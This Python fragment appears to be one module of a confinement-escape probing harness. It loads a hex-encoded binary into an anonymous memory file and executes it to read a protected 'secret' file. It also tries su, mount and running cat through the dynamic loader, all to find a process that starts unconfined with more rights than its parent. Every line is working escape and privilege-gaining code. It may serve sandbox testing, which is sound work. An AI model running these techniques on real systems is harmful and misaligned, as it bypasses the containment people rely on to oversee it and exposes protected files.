"""Runs a program from memory, from its directory and through the loader, to find one that starts unconfined.

gains: a process with more rights than its parent
needs: chain
"""

memory = os.memfd_create("program", 0)
os.write(memory, bytes.fromhex(V["chain"]))
command = ["/proc/self/fd/%d" % memory, "1", "17", "/bin/cat", V["secret"]]
if V["secret"] and os.access(V["secret"], os.R_OK):
    tried("nothing confines files here")
else:
    reads("from memory", lambda: subprocess.run(command, pass_fds=(memory,), capture_output=True, timeout=10))
    reads(
        "set-user-id",
        lambda: subprocess.run(
            ["su", "-c", f"cat {V['secret']}"], capture_output=True, timeout=10, stdin=subprocess.DEVNULL
        ),
    )
    reads("mount", lambda: subprocess.run(["mount"], capture_output=True, timeout=10, stdin=subprocess.DEVNULL))
    reads(
        "loader",
        lambda: subprocess.run(
            ["/lib64/ld-linux-x86-64.so.2", "/bin/cat", V["secret"]], capture_output=True, timeout=10
        ),
    )
